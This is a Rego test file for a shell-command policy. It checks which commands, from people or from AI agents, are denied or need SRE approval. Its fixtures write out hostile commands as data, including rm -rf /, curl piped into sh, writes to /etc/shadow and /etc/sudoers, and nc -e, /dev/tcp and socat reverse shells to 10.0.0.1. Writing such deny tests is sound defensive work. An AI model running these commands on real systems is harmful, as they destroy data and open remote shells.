package portcullis.shell_test

import data.portcullis.shell

person := {"sub": "u-1", "groups": ["engineering"], "agent": false}

agent := {"sub": "agent-1", "groups": ["agents"], "agent": true}

# One simple command; `path` is what was typed when it had a slash.
cmd(name, args) := {
	"program": {"name": name, "path": null}, "args": args, "env": {},
	"redirects": [], "wrappers": [], "pipes_to_shell": false,
}

line(commands, who) := {
	"identity": who,
	"connection": {"name": "web-1", "type": "ssh", "tags": {"env": "staging"}},
	"request": {"command": "…", "commands": commands},
}

run(c) := line([c], person)

test_plain_commands_clean if {
	count(shell.deny) == 0 with input as run(cmd("ls", ["-la", "/etc"]))
	count(shell.deny) == 0 with input as run(cmd("rm", ["-rf", "/tmp/build"]))
	count(shell.approvals) == 0 with input as run(cmd("ls", []))
}

test_rm_rf_root_denied if {
	"rm -r of / is not allowed" in shell.deny with input as run(cmd("rm", ["-rf", "/"]))
}

test_rm_disguises_denied if {
	"rm -r of / is not allowed" in shell.deny with input as run(cmd("rm", ["-r", "-f", "/"]))
	"rm -r of /* is not allowed" in shell.deny with input as run(cmd("rm", ["-fr", "/*"]))
	"rm -r of // is not allowed" in shell.deny with input as run(cmd("rm", ["-Rf", "--", "//"]))
	"rm -r of /./ is not allowed" in shell.deny with input as run(cmd("rm", ["--recursive", "/./"]))
}

test_rm_system_folders_denied if {
	"rm -r of /etc/ is not allowed" in shell.deny with input as run(cmd("rm", ["-rf", "/etc/"]))
	"rm -r of /usr/* is not allowed" in shell.deny with input as run(cmd("rm", ["-rf", "/usr/*"]))
	"rm -r of ~ is not allowed" in shell.deny with input as run(cmd("rm", ["-rf", "~"]))
}

test_rm_no_preserve_root_denied if {
	"rm --no-preserve-root is not allowed" in shell.deny with input as run(cmd("rm", ["--no-preserve-root", "-f", "x"]))
}

test_rm_dash_dash_operand if {
	# After `--`, "-rf" is a file name, so nothing is recursive and nothing is denied.
	count(shell.deny) == 0 with input as run(cmd("rm", ["--", "-rf"]))
}

test_decoded_program_name_denied if {
	# `$'\x72\x6d' -rf /`: the front end decodes the name before policy sees it.
	c := object.union(cmd("rm", ["-rf", "/"]), {"program": {"name": "rm", "path": null}})
	count(shell.deny) > 0 with input as run(c)
}

test_curl_pipe_sh_denied if {
	c := object.union(cmd("curl", ["-fsSL", "https://get.example.com"]), {"pipes_to_shell": true})
	shell.deny == {
		"piping curl output into a shell is not allowed",
		"piping into a shell is not allowed when what it would run cannot be known",
	} with input as line([c, cmd("sh", [])], person)
}

test_wget_pipe_bash_denied if {
	c := object.union(cmd("wget", ["-qO-", "https://x.example"]), {"pipes_to_shell": true})
	"piping wget output into a shell is not allowed" in shell.deny with input as run(c)
}

test_curl_to_file_allowed if {
	count(shell.deny) == 0 with input as run(cmd("curl", ["-o", "/tmp/x", "https://x.example"]))
}

test_redirect_into_etc_denied if {
	c := object.union(cmd("echo", ["x"]), {"redirects": [{"fd": 1, "mode": "append", "target": "/etc/hosts"}]})
	shell.deny == {"writing to /etc/hosts is not allowed"} with input as run(c)
}

test_reading_etc_allowed if {
	c := object.union(cmd("cat", []), {"redirects": [{"fd": 0, "mode": "read", "target": "/etc/hosts"}]})
	count(shell.deny) == 0 with input as run(c)
	count(shell.deny) == 0 with input as run(cmd("cp", ["/etc/hosts", "/tmp/hosts"]))
}

test_writing_programs_into_etc_denied if {
	"writing to /etc/sudoers is not allowed" in shell.deny with input as run(cmd("tee", ["-a", "/etc/sudoers"]))
	"writing to /etc/passwd is not allowed" in shell.deny with input as run(cmd("cp", ["/tmp/p", "/etc/passwd"]))
	"writing to /etc/ssh/sshd_config is not allowed" in shell.deny with input as run(cmd("sed", ["-i", "s/no/yes/", "/etc/ssh/sshd_config"]))
	"writing to /etc/shadow is not allowed" in shell.deny with input as run(cmd("dd", ["if=/tmp/x", "of=/etc/shadow"]))
	"writing to /boot is not allowed" in shell.deny with input as run(cmd("chmod", ["777", "/boot"]))
}

test_etc_prefix_is_not_etc if {
	count(shell.deny) == 0 with input as run(cmd("tee", ["/etcetera/x"]))
}

test_netcat_exec_denied if {
	"nc -e (reverse shell) is not allowed" in shell.deny with input as run(cmd("nc", ["-e", "/bin/sh", "10.0.0.1", "4444"]))
	"ncat --sh-exec (reverse shell) is not allowed" in shell.deny with input as run(cmd("ncat", ["--sh-exec", "bash", "h", "1"]))
	"nc -lvpe (reverse shell) is not allowed" in shell.deny with input as run(cmd("nc", ["-lvpe", "/bin/sh"]))
	count(shell.deny) == 0 with input as run(cmd("nc", ["-z", "db", "5432"]))
}

test_dev_tcp_denied if {
	c := object.union(cmd("bash", ["-i"]), {"redirects": [{"fd": 1, "mode": "write", "target": "/dev/tcp/10.0.0.1/4444"}]})
	"network redirection through /dev/tcp or /dev/udp is not allowed" in shell.deny with input as run(c)
	"network redirection through /dev/tcp or /dev/udp is not allowed" in shell.deny with input as run(cmd("bash", ["-c", "bash -i >& /dev/tcp/h/1 0>&1"]))
}

test_socat_exec_denied if {
	"socat exec (reverse shell) is not allowed" in shell.deny with input as run(cmd("socat", ["TCP:h:1", "EXEC:/bin/bash,pty"]))
	count(shell.deny) == 0 with input as run(cmd("socat", ["TCP-LISTEN:8080", "TCP:localhost:80"]))
}

test_unparseable_denied if {
	i := {"identity": person, "connection": {"type": "ssh"}, "request": {"command": "echo 'x", "commands": [], "parse_error": "unterminated quote"}}
	shell.deny == {"command could not be parsed: unterminated quote"} with input as i
}

test_sudo_needs_sre_approval if {
	c := object.union(cmd("systemctl", ["restart", "nginx"]), {"wrappers": ["sudo"]})
	shell.approvals == {{"approvers": ["sre"], "min": 1, "reason": "command runs with elevated privileges (sudo)", "ttl_seconds": 900}} with input as run(c)
	count(shell.approvals) == 1 with input as run(cmd("sudo", ["-i"]))
}

test_agents_never_sudo if {
	c := object.union(cmd("systemctl", ["restart", "nginx"]), {"wrappers": ["sudo"]})
	shell.deny == {"agents may not run commands with elevated privileges"} with input as line([c], agent)
	count(shell.approvals) == 0 with input as line([c], agent)
}

piped(name, args) := object.union(cmd(name, args), {"pipes_to_shell": true})

wrapped(name, args, wrappers) := object.union(cmd(name, args), {"wrappers": wrappers})

test_undecoded_pipe_into_shell_denied if {
	msg := "piping into a shell is not allowed when what it would run cannot be known"
	msg in shell.deny with input as line([cmd("cat", ["p.txt"]), piped("base64", ["-d"]), cmd("sh", [])], person)
}

test_decoded_pipe_into_shell_judged_by_its_commands if {
	msg := "piping into a shell is not allowed when what it would run cannot be known"
	decoded := line([piped("echo", ["bHMK"]), cmd("sh", []), wrapped("ls", [], ["sh stdin"])], person)
	not msg in shell.deny with input as decoded
	count(shell.deny) == 0 with input as decoded
}

test_find_delete_of_system_folders_denied if {
	"find -delete under / is not allowed" in shell.deny with input as run(cmd("find", ["/", "-delete"]))
	count(shell.deny) == 0 with input as run(cmd("find", ["/tmp/build", "-name", "*.o", "-delete"]))
}

test_rm_r_from_xargs_denied if {
	msg := "rm -r with targets from xargs is not allowed: they cannot be known in advance"
	msg in shell.deny with input as line([cmd("ls", []), wrapped("rm", ["-rf"], ["xargs"])], person)
	not msg in shell.deny with input as line([cmd("ls", []), wrapped("rm", ["-f"], ["xargs"])], person)
}

test_globs_reaching_system_folders_denied if {
	"rm -r of /et? is not allowed" in shell.deny with input as run(cmd("rm", ["-rf", "/et?"]))
	"rm -r of /[e]tc is not allowed" in shell.deny with input as run(cmd("rm", ["-rf", "/[e]tc"]))
	count(shell.deny) == 0 with input as run(cmd("rm", ["-rf", "/tmp/build-*"]))
}
